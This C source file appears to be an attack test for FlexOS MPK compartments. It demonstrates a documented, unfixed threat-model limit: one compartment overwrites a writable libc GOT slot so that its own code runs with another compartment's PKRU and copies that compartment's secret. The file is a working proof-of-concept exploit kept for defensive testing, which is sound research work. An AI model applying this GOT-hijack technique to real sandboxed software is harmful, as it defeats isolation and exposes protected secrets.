/*
 * attack --got-libc (limit 1 of docs/threat-model.md, a limit not closed;
 * found by an attack review): the C library an image loads (Debian's
 * libc.so.6) is not linked -z now, so its .got.plt, through which its
 * code calls its own string functions (IFUNCs) and the loader, lies past
 * its RELRO, on the page that holds its .data: key-0 memory every
 * compartment writes. lib1 points the slot that puts calls first (strlen)
 * at code of its choosing, with a plain store, and app calls puts: the
 * code runs with app's PKRU and copies app's secret to shared memory.
 * Prints what lib1 then finds there; tests/mpk/vm.sh counts it as a known
 * limit (TAP TODO) until the C library's slots are out of reach.
 */
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <flexos/flexos.h>

#include "attacklib.h"
#include "evil.h"
#include "gotlibc.h"

/* What lib1 knows and keeps: shared, since its code runs with app's PKRU too. */
static struct {
	uintptr_t secret;
	uint32_t app_pkru;
	uintptr_t *slot, orig;
	volatile long stolen;
	volatile uint32_t pkru_seen;
	volatile int done;
} g FLEXOS_SHARED;

/* The C library's PLT slot puts calls first: its first call's jmp *slot(%rip). */
static uintptr_t *puts_first_slot(void)
{
	const uint8_t *p = (const uint8_t *)(uintptr_t)&puts;

	for (int i = 0; i < 64; i++)
		if (p[i] == 0xe8) {
			int32_t rel;
			memcpy(&rel, p + i + 1, 4);
			const uint8_t *plt = p + i + 5 + rel;
			if (plt[0] != 0xff || plt[1] != 0x25)
				return NULL;
			memcpy(&rel, plt + 2, 4);
			return (uintptr_t *)(plt + 6 + rel);
		}
	return NULL;
}

/* lib1's code in the slot: with app's PKRU, it takes app's secret. */
static size_t lib1_strlen(const char *s)
{
	uint32_t pkru = flexos__mpk_rdpkru();

	if (!g.done && pkru == g.app_pkru) {
		g.stolen = *(volatile long *)g.secret;
		g.pkru_seen = pkru;
		g.done = 1;
	}
	return ((size_t (*)(const char *))g.orig)(s);
}

/* Run by lib1 (lib1_call: cb(x + 1) + 1). */
static long arm_in_lib1(long x)
{
	(void)x;
	g.slot = puts_first_slot();
	if (!g.slot)
		return -1;
	g.orig = *g.slot;
	*g.slot = (uintptr_t)lib1_strlen;
	return 0;
}

static long harvest_in_lib1(long x)
{
	(void)x;
	*g.slot = g.orig;
	return 0;
}

int got_libc(uintptr_t app_secret)
{
	long r = 0;

	g.secret = app_secret;
	g.app_pkru = flexos__mpk_rdpkru();
	flexos_gate_r(lib1, r, lib1_call, arm_in_lib1, 0);
	if (r != 1) {
		printf("got-libc: lib1 found no slot\n");
		return 2;
	}
	puts("got-libc: app calls puts");
	fflush(stdout);
	flexos_gate_r(lib1, r, lib1_call, harvest_in_lib1, 0);
	if (g.done)
		printf("got-libc: lib1's code ran with app's PKRU %#x and copied app's secret %#lx "
		       "to shared memory\n",
		       g.pkru_seen, g.stolen);
	else
		printf("got-libc: lib1's code never ran with app's PKRU\n");
	return 0;
}
